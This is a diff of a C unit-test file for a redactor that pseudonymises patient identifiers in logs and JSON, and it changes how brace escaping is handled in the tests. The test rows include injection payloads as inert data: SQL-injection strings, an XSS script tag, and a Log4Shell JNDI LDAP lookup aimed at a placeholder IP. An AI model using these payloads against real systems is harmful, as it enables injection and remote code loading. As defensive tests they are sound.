@@ -6,17 +6,6 @@
 
 #define COUNT(a) (sizeof(a) / sizeof((a)[0]))
 
-static struct pseudonym_key
-test_key(void)
-{
-	struct pseudonym_keys keys;
-	struct pseudonym_key key;
-
-	pseudonym_keys_test(&keys);
-	pseudonym_key_derive(&keys, STR("m"), &key);
-	return key;
-}
-
 /* `text` with its {x} as pseudonyms; "{{" is a brace. */
 static void
 spell(const struct pseudonym_key *key, const char *text, struct buf *out)
@@ -38,7 +27,7 @@ spell(const struct pseudonym_key *key, const char *text, struct buf *out)
 }
 
 struct row {
-	const char *text;
+	const char *text; /* "{{" is a brace here, too */
 	const char *want; /* NULL: as it was */
 };
 
@@ -47,26 +36,28 @@ expect_hidden(const struct row *rows, size_t n)
 {
 	struct redactor *r = redactor_new();
 	struct pseudonym_key key = test_key();
-	struct buf got, want;
+	struct buf text, got, want;
 
+	buf_init(&text, SIZE_MAX);
 	buf_init(&got, SIZE_MAX);
 	buf_init(&want, SIZE_MAX);
 	for (size_t i = 0; i < n; i++) {
-		struct str text = str_from(rows[i].text);
+		const char *expected =
+		    rows[i].want == NULL ? rows[i].text : rows[i].want;
 		size_t changes;
 
+		buf_clear(&text);
 		buf_clear(&got);
 		buf_clear(&want);
-		changes = redactor_run(r, &key, text, &got);
-		if (rows[i].want == NULL)
-			buf_add(&want, text);
-		else
-			spell(&key, rows[i].want, &want);
+		spell(&key, rows[i].text, &text);
+		spell(&key, expected, &want);
+		changes = redactor_run(r, &key, buf_str(&text), &got);
 		if (!str_eq(buf_str(&got), buf_str(&want)) ||
 		    (changes > 0) != (rows[i].want != NULL))
 			fail_msg("%s\nbecame %.*s\n   not %.*s", rows[i].text,
 			    STR_ARG(buf_str(&got)), STR_ARG(buf_str(&want)));
 	}
+	buf_fini(&text);
 	buf_fini(&got);
 	buf_fini(&want);
 	redactor_free(r);
@@ -142,21 +133,9 @@ test_json(void **state)
 	    {"{{\"resourceType\":\"Patient\",\"user\":\"lea\",\"ip\":\"192.0.2.7\"}",
 		NULL},
 	};
-	struct row plain[COUNT(rows)];
-	static char texts[COUNT(rows)][300];
 
 	(void)state;
-	/* The texts have single braces, what is wanted double ones. */
-	for (size_t i = 0; i < COUNT(rows); i++) {
-		size_t n = 0;
-
-		for (const char *p = rows[i].text; *p != '\0'; p++) {
-			texts[i][n++] = *p;
-			p += p[0] == '{' && p[1] == '{';
-		}
-		plain[i] = (struct row){texts[i], rows[i].want};
-	}
-	expect_hidden(plain, COUNT(rows));
+	expect_hidden(rows, COUNT(rows));
 }
 
 static void
@@ -199,12 +178,12 @@ test_others(void **state)
 	    {"compat=1 dispatch=2 path=/a spatial id=3", NULL},
 	    {"(0010,0040) CS [M]", NULL},
 	    {"patientId=, patientId=null, patientId=-", NULL},
-	    {"patientId={id} patientName=%s", NULL},
+	    {"patientId={{id} patientName=%s", NULL},
 	    {"patientIdType=MR patient_id_type=MR", NULL},
 	    {"?patientId=1%27%20OR%201=1", "?patientId={1}%27%20OR%201=1"},
 	    {"\"patientId\":\"1' OR '1'='1\"", "\"patientId\":\"{1}' OR '1'='1\""},
 	    {"patientName=<script>alert(1)</script>", NULL},
-	    {"patientId=${jndi:ldap://192.0.2.7/a}", NULL},
+	    {"patientId=${{jndi:ldap://192.0.2.7/a}", NULL},
 	};
 
 	(void)state;
